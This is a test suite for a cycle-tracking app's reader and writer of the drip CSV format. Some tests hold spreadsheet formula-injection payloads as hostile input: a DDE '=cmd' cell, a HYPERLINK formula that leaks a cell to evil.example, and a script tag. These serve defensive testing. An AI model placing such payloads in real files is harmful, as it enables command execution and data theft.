import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { SAME_PERIOD_GAP_DAYS } from '../../core/calc/bleeding-runs.ts'
import {
  DRIP_HEADER,
  type DripFile,
  dripCsvText,
  isFormulaCell,
  MAX_CSV_ROWS,
  parseDripCsv,
} from '../../core/calc/body-signs/drip-csv.ts'
import {
  BLEEDINGS,
  CERVIX_WORDS,
  type MucusAppearance,
  type MucusFeeling,
} from '../../core/calc/body-signs/signs.ts'
import { NOTE_MAX, type StoredDay } from '../../core/calc/body-signs/stored-day.ts'
import type { StoredPeriod } from '../../core/calc/cycle-log.ts'
import { MAX_IMPORT_BYTES } from '../../core/calc/import-limits.ts'
import { Temporal } from '../../core/calc/temporal.ts'

const today = Temporal.PlainDate.from('2026-11-25')
/** drip's header as its export writes it (fabfabretti/clue-to-drip, `objectsToCSV`). */
const HEADER =
  'date,temperature.value,temperature.exclude,temperature.time,temperature.note,bleeding.value,bleeding.exclude,mucus.feeling,mucus.texture,mucus.value,mucus.exclude,cervix.opening,cervix.firmness,cervix.position,cervix.exclude,note.value,desire.value,sex.solo,sex.partner,sex.condom,sex.pill,sex.iud,sex.patch,sex.ring,sex.implant,sex.diaphragm,sex.none,sex.other,sex.note,pain.cramps,pain.ovulationPain,pain.headache,pain.backache,pain.nausea,pain.tenderBreasts,pain.migraine,pain.other,pain.note,mood.happy,mood.sad,mood.stressed,mood.balanced,mood.fine,mood.anxious,mood.energetic,mood.fatigue,mood.angry,mood.other,mood.note'

/** A drip row: the named cells filled, every other column empty. */
function row(cells: Record<string, string>): string {
  return DRIP_HEADER.map((column) => cells[column] ?? '').join(',')
}

function read(text: string): DripFile {
  const file = parseDripCsv(text, today)
  if ('problem' in file) throw new Error(`refused: ${file.problem}`)
  return file
}

const problemOf = (text: string, bytes?: number) => {
  const file = parseDripCsv(text, today, bytes)
  return 'problem' in file ? file.problem : null
}

describe('drip’s header', () => {
  it('is the one drip writes, column for column', () => {
    expect(DRIP_HEADER.join(',')).toBe(HEADER)
  })
})

describe('reading drip’s CSV', () => {
  it('reads temperature, mucus and bleeding as drip means them: excluded bleeding is spotting, not a period', () => {
    const file = read(
      [
        HEADER,
        row({ date: '2026-10-01', 'bleeding.value': '3', 'bleeding.exclude': 'false' }),
        row({ date: '2026-10-02', 'bleeding.value': '2', 'bleeding.exclude': 'false' }),
        row({ date: '2026-10-04', 'bleeding.value': '0', 'bleeding.exclude': 'false' }), // spotting, a day after a dry one
        row({
          date: '2026-10-12',
          'temperature.value': '36.45',
          'temperature.exclude': 'false',
          'temperature.time': '06:30',
          'temperature.note': 'slept well',
        }),
        // drip: feeling 2 "wet" (our moist), texture 1 creamy, value 3 (S)
        row({
          date: '2026-10-13',
          'mucus.feeling': '2',
          'mucus.texture': '1',
          'mucus.value': '3',
          'mucus.exclude': 'false',
        }),
        // drip: feeling 3 "slippery" (our wet), texture 2 egg white, value 4 (S+), excluded
        row({
          date: '2026-10-14',
          'temperature.value': '36.9',
          'temperature.exclude': 'TRUE',
          'mucus.feeling': '3',
          'mucus.texture': '2',
          'mucus.value': '4',
          'mucus.exclude': 'true',
        }),
        row({ date: '2026-10-15', 'note.value': 'a note only', 'pain.cramps': 'true' }),
        // The cervix by drip's codes (opening 1 medium, firmness 1 soft, position 2 high), and sex
        // with a partner; drip's cervix.exclude and sex.solo are not read (issue 60, item 5).
        row({
          date: '2026-10-17',
          'cervix.opening': '1',
          'cervix.firmness': '1',
          'cervix.position': '2',
          'cervix.exclude': 'true',
          'sex.partner': 'true',
        }),
        row({ date: '2026-10-18', 'cervix.firmness': '0', 'sex.solo': 'true' }),
        // Spotting mid-cycle, which drip's `isMensesStart` skips: no new period (issue 60, item 3).
        row({ date: '2026-10-16', 'bleeding.value': '0', 'bleeding.exclude': 'true' }),
        row({ date: '2026-10-29', 'bleeding.value': '1', 'bleeding.exclude': 'false' }),
      ].join('\n'),
    )
    expect(file.periods).toEqual([
      { start: '2026-10-01', end: '2026-10-04', excluded: false },
      { start: '2026-10-29', excluded: false },
    ])
    expect(file.spotting).toBe(1)
    expect(file.days).toEqual([
      // Each bleeding day keeps drip's flow, 0–3, as the day's bleeding (issue 60, item 5).
      { date: '2026-10-01', bleeding: 'heavy' },
      { date: '2026-10-02', bleeding: 'medium' },
      { date: '2026-10-04', bleeding: 'spotting' },
      { date: '2026-10-12', temperature: { hundredths: 3645, time: '06:30', disturbed: false } },
      { date: '2026-10-13', mucus: { feeling: 'moist', appearance: 'creamy' } },
      {
        date: '2026-10-14',
        temperature: { hundredths: 3690, disturbed: true },
        mucus: { feeling: 'wet', appearance: 'eggWhite', excluded: true },
      },
      // drip's note is kept (issue 60, item 3); its other columns, such as pain, are not read.
      { date: '2026-10-15', note: 'a note only' },
      // Excluded bleeding is a day of spotting, with no period.
      { date: '2026-10-16', bleeding: 'spotting' },
      {
        date: '2026-10-17',
        cervix: { opening: 'partlyOpen', firmness: 'soft', position: 'high' },
        sex: true,
      },
      { date: '2026-10-18', cervix: { firmness: 'firm' } },
      { date: '2026-10-29', bleeding: 'light' },
    ])
    expect(file.rejectedCount).toBe(0)
  })

  it('reads a subset of drip’s columns in any order, and the older isCycleStart column', () => {
    const file = read('bleeding.value,isCycleStart,date\r\n2,true,2026-10-01\r\n2,false,2026-10-02\r\n')
    expect(file.periods).toEqual([{ start: '2026-10-01', end: '2026-10-02', excluded: false }])
    // drip sets isCycleStart itself from the bleeding days: not named as a column not read.
    expect(file.unread).toBeUndefined()
  })

  it('reads quoted fields, with commas, doubled quotes and line breaks, numbering lines as the file does', () => {
    const file = read(
      [
        'date,note.value,temperature.value,temperature.exclude',
        '2026-10-01,"felt ""off"", slept late',
        'second line of the note",36.70,true',
        '"2026-10-02",,"36.50",false',
        'not a date,,36.5,false',
      ].join('\n'),
    )
    expect(file.days.map((day) => day.temperature?.hundredths)).toEqual([3670, 3650])
    expect(file.rejected).toEqual([{ line: 5, problem: 'cycles.import.badDate' }])
  })

  it('leaves out, with its reason, each line it cannot use, and keeps the rest', () => {
    const lines = [
      row({ date: '2026-10-01', 'temperature.value': '=1+1', 'temperature.exclude': 'false' }),
      row({ date: '2026-10-02', 'temperature.value': '36.5', 'note.value': '@SUM(A1)' }),
      row({ date: '2026-10-03', 'temperature.value': '36.5', 'note.value': '\tx' }),
      row({ date: '2026-10-04', 'temperature.value': '36,5' }),
      row({ date: '2026-10-05', 'temperature.value': '33.9' }),
      row({ date: '2026-10-06', 'temperature.value': '42.1' }),
      row({ date: '2026-10-07', 'temperature.value': '36.5', 'temperature.time': '6:30' }),
      row({ date: '2026-10-08', 'mucus.feeling': '4', 'mucus.texture': '0' }),
      row({ date: '2026-10-09', 'mucus.feeling': '1' }), // drip writes a feeling with a texture
      row({ date: '2026-10-10', 'mucus.feeling': '1', 'mucus.texture': '0', 'mucus.value': '3' }), // drip's value is 1
      row({ date: '2026-10-11', 'bleeding.value': '4' }),
      row({ date: '2026-10-12', 'bleeding.value': '2', 'bleeding.exclude': 'yes' }),
      row({ date: '2026-10-13', 'temperature.value': '36.5' }),
      row({ date: '2026-10-13', 'temperature.value': '36.6' }),
      row({ date: '2026-10-14', 'cervix.opening': '3' }),
      row({ date: '2026-10-14', 'cervix.firmness': '2' }),
      row({ date: '2026-10-14', 'sex.partner': 'yes' }),
      row({ date: '2026-11-26', 'bleeding.value': '2' }),
      row({ date: '2026-11-26', 'temperature.value': '36.5' }),
      row({ date: '2026-11-27', 'note.value': 'a note ahead: nothing we read' }),
    ]
    const file = read([HEADER, ...lines].join('\n'))
    // A formula in a cell that is read as a value leaves its row out; a note is text, kept as it is
    // (its tab, a control character, removed), and no longer drops the day's temperature (issue 60,
    // item 3). A note dated ahead of today is refused like any other day.
    expect(file.days).toEqual([
      { date: '2026-10-02', temperature: { hundredths: 3650, disturbed: false }, note: '@SUM(A1)' },
      { date: '2026-10-03', temperature: { hundredths: 3650, disturbed: false }, note: 'x' },
      { date: '2026-10-13', temperature: { hundredths: 3650, disturbed: false } },
    ])
    expect(file.periods).toEqual([])
    expect(file.rejectedCount).toBe(17)
    expect(file.rejected).toEqual([
      { line: 2, problem: 'signs.csv.formula' },
      { line: 5, problem: 'signs.csv.badValue' },
      { line: 6, problem: 'signs.temperatureTooLow' },
      { line: 7, problem: 'signs.temperatureTooHigh' },
      { line: 8, problem: 'signs.csv.badTime' },
      { line: 9, problem: 'signs.csv.badValue' },
      { line: 10, problem: 'signs.csv.badValue' },
      { line: 11, problem: 'signs.csv.badValue' },
      { line: 12, problem: 'signs.csv.badValue' },
      { line: 13, problem: 'signs.csv.badValue' },
    ])
    const rest = parseDripCsv([HEADER, ...lines.slice(10)].join('\n'), today) as DripFile
    expect(rest.rejected).toEqual([
      { line: 2, problem: 'signs.csv.badValue' },
      { line: 3, problem: 'signs.csv.badValue' },
      { line: 5, problem: 'signs.csv.duplicate' },
      // A cervix code or a sex flag drip does not write.
      { line: 6, problem: 'signs.csv.badValue' },
      { line: 7, problem: 'signs.csv.badValue' },
      { line: 8, problem: 'signs.csv.badValue' },
      { line: 9, problem: 'cycles.future' },
      { line: 10, problem: 'signs.future' },
      { line: 11, problem: 'signs.future' },
    ])
  })

  it('treats every formula prefix as one, and none of drip’s own values', () => {
    for (const cell of ['=1', '+1', '-1', '@x', '\t1', '\r1', '  =1']) expect(isFormulaCell(cell)).toBe(true)
    for (const cell of ['36.55', '2026-10-01', 'true', '06:30', '', 'a-b', 'x=1'])
      expect(isFormulaCell(cell)).toBe(false)
  })
})

describe('a CSV refused whole, nothing read', () => {
  it('names drip’s columns when the header is not drip’s', () => {
    expect(problemOf('date,flow\n2026-10-01,heavy\n')).toBe('signs.csv.header')
    expect(problemOf('temperature.value\n36.5\n')).toBe('signs.csv.header')
    expect(problemOf('date,date\n2026-10-01,2026-10-01\n')).toBe('signs.csv.header')
  })

  it("reads drip's columns and ignores any other, a later drip's or a hostile name alike (issue 60, item 3)", () => {
    const file = read(
      [
        `${HEADER},cervix.softness,=cmd|'/c calc'!A1`,
        `${row({ date: '2026-10-01', 'temperature.value': '36.5' })},soft,=1+1`,
      ].join('\n'),
    )
    expect(file.days).toEqual([{ date: '2026-10-01', temperature: { hundredths: 3650, disturbed: false } }])
    expect(file.rejected).toEqual([])
  })

  it('names the columns it does not read that hold something in a row, drip’s or others (decision 073)', () => {
    const file = read(
      [
        `${HEADER},bleeding.spotting,later.empty`,
        `${row({ date: '2026-10-01', 'bleeding.value': '2', 'bleeding.exclude': 'false', 'pain.cramps': 'true', 'sex.solo': 'false', 'cervix.opening': '0', 'cervix.exclude': 'false', 'mood.note': 'tired' })},true,`,
        `${row({ date: '2026-10-02', 'temperature.value': '36.5', 'temperature.note': 'late', 'desire.value': '2', 'sex.condom': 'FALSE', 'note.value': 'ok' })},,`,
      ].join('\n'),
    )
    expect(file.days).toHaveLength(2)
    // Read columns, empty ones and drip's "false" (what was not logged) are not named.
    expect(file.unread).toEqual({
      names: ['temperature.note', 'desire.value', 'pain.cramps', 'mood.note', 'bleeding.spotting'],
      more: 0,
    })
    expect(read(`${HEADER}\n${row({ date: '2026-10-01', 'bleeding.value': '1' })}\n`).unread).toBeUndefined()
    // A quoted name with a line break, markup or a formula is named as the text it is, cleaned.
    const hostile = read(
      [
        'date,bleeding.value,"Pain\r\nlevel","<script>alert(1)</script>","=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
        '2026-10-01,2,3,x,y',
      ].join('\n'),
    )
    expect(hostile.unread).toEqual({
      names: ['Pain level', '<script>alert(1)</script>', '=HYPERLINK("http://evil.example/?x="&A1…'],
      more: 0,
    })
  })

  it('refuses text that is not UTF-8: replacement characters, UTF-16, NUL bytes', () => {
    expect(problemOf(`${HEADER}\n2026-10-01,36.5\uFFFD\n`)).toBe('signs.csv.encoding')
    const utf16 = [...`${HEADER}\n`].map((char) => `${char}\u0000`).join('')
    expect(problemOf(utf16)).toBe('signs.csv.encoding')
    expect(problemOf(`\uFFFD\uFFFD${utf16}`)).toBe('signs.csv.encoding')
  })

  it('reads a byte order mark as nothing, and refuses an empty file', () => {
    expect(
      read(`\uFEFF${HEADER}\n${row({ date: '2026-10-01', 'bleeding.value': '1' })}`).periods,
    ).toHaveLength(1)
    expect(problemOf('\uFEFF \n\n')).toBe('cycles.import.empty')
  })

  it('refuses a quote never closed, which would swallow the rest of the file', () => {
    expect(problemOf(`${HEADER}\n2026-10-01,"36.5\n2026-10-02,36.6\n`)).toBe('signs.csv.quote')
  })

  it('refuses a file over the size limit unread', () => {
    expect(problemOf(`${HEADER}\n`, MAX_IMPORT_BYTES + 1)).toBe('cycles.import.tooLarge')
  })

  it(`refuses more than ${MAX_CSV_ROWS} rows, and reads ${MAX_CSV_ROWS}`, () => {
    const rows = (count: number) => `date,bleeding.value\n${',\n'.repeat(count)}`
    expect(problemOf(rows(MAX_CSV_ROWS + 1))).toBe('signs.csv.tooManyRows')
    const file = read(rows(MAX_CSV_ROWS))
    expect(file).toEqual({ periods: [], spotting: 0, days: [], rejected: [], rejectedCount: 0 }) // empty rows are skipped
  })
})

describe('writing drip’s CSV', () => {
  it('writes drip’s header, a row per day with something we hold, oldest first; every period a period', () => {
    const text = dripCsvText(
      [
        { start: '2026-10-29', excluded: true },
        { start: '2026-10-01', end: '2026-10-03', excluded: false },
      ],
      [
        {
          date: '2026-10-02',
          temperature: { hundredths: 3640, time: '06:30', disturbed: false },
          mucus: { feeling: 'nothing', appearance: 'nothing' },
        },
        { date: '2026-10-03', bleeding: 'heavy' },
        { date: '2026-10-14', mucus: { feeling: 'wet', appearance: 'creamy', excluded: true } },
        { date: '2026-10-15', lh: 'positive', sex: true, cervix: { opening: 'open', position: 'high' } },
        { date: '2026-10-16', bleeding: 'spotting' },
        { date: '2026-10-17', lh: 'negative', pregnancyTest: 'negative' },
      ],
    )
    expect(text).toBe(
      [
        HEADER,
        row({ date: '2026-10-01', 'bleeding.value': '2', 'bleeding.exclude': 'false' }),
        row({
          date: '2026-10-02',
          'temperature.value': '36.40',
          'temperature.exclude': 'false',
          'temperature.time': '06:30',
          'bleeding.value': '2',
          'bleeding.exclude': 'false',
          'mucus.feeling': '1',
          'mucus.texture': '0',
          'mucus.value': '1',
          'mucus.exclude': 'false',
        }),
        // A period day's logged flow, and "medium" where none is logged (drip needs one).
        row({ date: '2026-10-03', 'bleeding.value': '3', 'bleeding.exclude': 'false' }),
        row({
          date: '2026-10-14',
          'mucus.feeling': '3',
          'mucus.texture': '1',
          'mucus.value': '4',
          'mucus.exclude': 'true',
        }),
        // Sex with a partner and the cervix by drip's codes; the LH test has no column in drip.
        row({
          date: '2026-10-15',
          'cervix.opening': '2',
          'cervix.position': '2',
          'cervix.exclude': 'false',
          'sex.partner': 'true',
        }),
        // Bleeding outside a period: drip's excluded bleeding, which starts no period there.
        row({ date: '2026-10-16', 'bleeding.value': '0', 'bleeding.exclude': 'true' }),
        // A cycle left out of the statistics is still a period: drip's `exclude` would make it spotting.
        row({ date: '2026-10-29', 'bleeding.value': '2', 'bleeding.exclude': 'false' }),
        '',
      ].join('\n'),
    )
  })
})

/** A log as the device may hold it: periods that do not overlap, days with any signs. */
const FEELINGS: MucusFeeling[] = ['dry', 'nothing', 'moist', 'wet']
const APPEARANCES: MucusAppearance[] = ['nothing', 'creamy', 'eggWhite']
const first = Temporal.PlainDate.from('2024-01-01')
const dateOf = (offset: number) => first.add({ days: offset }).toString()

const periodsArb = fc
  .array(
    fc.record({
      // Days from the previous period's last day (or from 2024-01-01) to this one's first.
      gap: fc.integer({ min: 1, max: 60 }),
      length: fc.option(fc.integer({ min: 0, max: 13 }), { nil: undefined }),
      excluded: fc.boolean(),
    }),
    { maxLength: 12 },
  )
  .map((specs) => {
    const periods: StoredPeriod[] = []
    let at = 0
    for (const { gap, length, excluded } of specs) {
      const start = at + gap
      periods.push(
        length === undefined
          ? { start: dateOf(start), excluded }
          : { start: dateOf(start), end: dateOf(start + length), excluded },
      )
      at = start + (length ?? 0)
    }
    return periods
  })

const dayArb = fc.record(
  {
    temperature: fc.record(
      {
        hundredths: fc.integer({ min: 3400, max: 4200 }),
        time: fc
          .tuple(fc.integer({ min: 0, max: 23 }), fc.integer({ min: 0, max: 59 }))
          .map(([hour, minute]) => `${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}`),
        disturbed: fc.boolean(),
      },
      { requiredKeys: ['hundredths', 'disturbed'] },
    ),
    mucus: fc.record(
      {
        feeling: fc.constantFrom(...FEELINGS),
        appearance: fc.constantFrom(...APPEARANCES),
        excluded: fc.constant(true as const),
      },
      { requiredKeys: ['feeling', 'appearance'] },
    ),
    lh: fc.constantFrom('negative' as const, 'positive' as const),
    sex: fc.boolean(),
    bleeding: fc.constantFrom(...BLEEDINGS),
    cervix: fc
      .record(
        {
          opening: fc.constantFrom(...CERVIX_WORDS.opening),
          firmness: fc.constantFrom(...CERVIX_WORDS.firmness),
          position: fc.constantFrom(...CERVIX_WORDS.position),
        },
        { requiredKeys: [] },
      )
      .filter((cervix) => Object.keys(cervix).length > 0),
  },
  { requiredKeys: [] },
)

const daysArb = fc
  .uniqueArray(fc.tuple(fc.integer({ min: 0, max: 900 }), dayArb), {
    selector: ([offset]) => offset,
    maxLength: 40,
  })
  .map((entries) => entries.map(([offset, signs]): StoredDay => ({ date: dateOf(offset), ...signs })))

/**
 * What drip's format holds of a log: two periods closer than drip can tell apart are one; each
 * period day holds its logged bleeding or "medium" (drip needs a flow); sex is drip's sex with a
 * partner; LH and pregnancy tests have no column.
 */
function asDripHolds(periods: StoredPeriod[], days: StoredDay[]) {
  const merged: StoredPeriod[] = []
  for (const period of periods) {
    const last = merged.at(-1)
    const lastDay = last ? Temporal.PlainDate.from(last.end ?? last.start) : null
    if (
      last &&
      lastDay &&
      lastDay.until(Temporal.PlainDate.from(period.start)).days <= SAME_PERIOD_GAP_DAYS + 1
    ) {
      merged[merged.length - 1] = { ...last, end: period.end ?? period.start }
      continue
    }
    merged.push(period)
  }
  return {
    // A one-day period and a start without a last day are the same single bleeding day in drip;
    // a cycle left out of the statistics comes back counted: drip's file has no place for that.
    periods: merged.map(({ start, end }) =>
      end && end !== start ? { start, end, excluded: false } : { start, excluded: false },
    ),
    days: heldDays(periods, days),
  }
}

function heldDays(periods: StoredPeriod[], days: StoredDay[]): StoredDay[] {
  const held = new Map<string, StoredDay>()
  for (const { date, temperature, mucus, bleeding, cervix, sex } of days) {
    const day: StoredDay = {
      date,
      ...(temperature ? { temperature } : {}),
      ...(mucus ? { mucus } : {}),
      ...(bleeding ? { bleeding } : {}),
      ...(cervix ? { cervix } : {}),
      ...(sex ? { sex } : {}),
    }
    if (Object.keys(day).length > 1) held.set(date, day)
  }
  for (const { start, end } of periods) {
    for (let date = Temporal.PlainDate.from(start); ; date = date.add({ days: 1 })) {
      const iso = date.toString()
      const day = held.get(iso)
      if (!day?.bleeding) held.set(iso, { ...day, date: iso, bleeding: 'medium' })
      if (iso === (end ?? start)) break
    }
  }
  return [...held.values()].sort((a, b) => a.date.localeCompare(b.date))
}

describe('round trip: the log, drip’s CSV, the log', () => {
  it('gives back everything drip’s format can hold, and writes no formula cell', () => {
    fc.assert(
      fc.property(periodsArb, daysArb, (periods, days) => {
        const text = dripCsvText(periods, days)
        expect(text.split(/[\n,]/).filter(isFormulaCell)).toEqual([])
        const file = read(text)
        expect(file.rejectedCount).toBe(0)
        // Our own export names no column as not read: its `cervix.exclude` is only ever "false".
        expect(file.unread).toBeUndefined()
        const { periods: heldPeriods, days: heldDays } = asDripHolds(periods, days)
        // A merged run longer than a period can be keeps its first day only, as the reader must.
        expect(file.periods).toEqual(
          heldPeriods.map((period) =>
            period.end &&
            Temporal.PlainDate.from(period.start).until(Temporal.PlainDate.from(period.end)).days >= 14
              ? { start: period.start, excluded: false }
              : period,
          ),
        )
        expect(file.days).toEqual(heldDays)
      }),
      { numRuns: 200 },
    )
  }, 30_000)

  it('gives back exactly a log whose periods are far enough apart, none left out', () => {
    const periods: StoredPeriod[] = [
      { start: '2026-09-01', end: '2026-09-05', excluded: false },
      { start: '2026-09-29', excluded: false },
      { start: '2026-10-27', end: '2026-10-31', excluded: false },
    ]
    expect(read(dripCsvText(periods, [])).periods).toEqual(periods)
    // Left out here, counted there: the period stays a period in drip (decision 071).
    const leftOut = periods.map((period, i) => (i === 1 ? { ...period, excluded: true } : period))
    expect(read(dripCsvText(leftOut, [])).periods).toEqual(periods)
  })
})

describe('notes (issue 60, items 3 and 5)', () => {
  const hostile = [
    '+ cramps, from 6 am',
    '=HYPERLINK("http://example.com","x")',
    '@SUM(A1)',
    '-1 bad night\nwoke at 4',
    '<script>alert(1)</script> "quoted"',
  ]

  it('reads drip’s note as text, never as a formula: a note starting with "+" keeps its day', () => {
    const file = read(
      [
        HEADER,
        row({ date: '2026-11-02', 'temperature.value': '36.45', 'note.value': '+ cramps' }),
        row({ date: '2026-11-03', 'note.value': '"=1+1, then ""more"""' }),
      ].join('\n'),
    )
    expect(file.rejectedCount).toBe(0)
    expect(file.days).toEqual([
      { date: '2026-11-02', temperature: { hundredths: 3645, disturbed: false }, note: '+ cramps' },
      { date: '2026-11-03', note: '=1+1, then "more"' },
    ])
  })

  it('refuses, by its line, a note longer than a day keeps', () => {
    const long = 'x'.repeat(NOTE_MAX + 1)
    const file = read([HEADER, row({ date: '2026-11-02', 'note.value': long })].join('\n'))
    expect(file.rejected).toEqual([{ line: 2, problem: 'signs.noteTooLong' }])
    expect(file.days).toEqual([])
  })

  it('writes each note so that no spreadsheet runs it, and reads every one back', () => {
    const days: StoredDay[] = hostile.map((note, i) => ({ date: `2026-11-0${i + 1}`, note }))
    const text = dripCsvText([], days)
    const parsed = read(text)
    // A note a spreadsheet would run gains a leading apostrophe, its only change.
    expect(parsed.days.map((day) => day.note)).toEqual(
      hostile.map((note) => (isFormulaCell(note) ? `'${note}` : note)),
    )
    for (const day of parsed.days) expect(isFormulaCell(day.note ?? '')).toBe(false)
    expect(parsed.rejectedCount).toBe(0)
  })
})
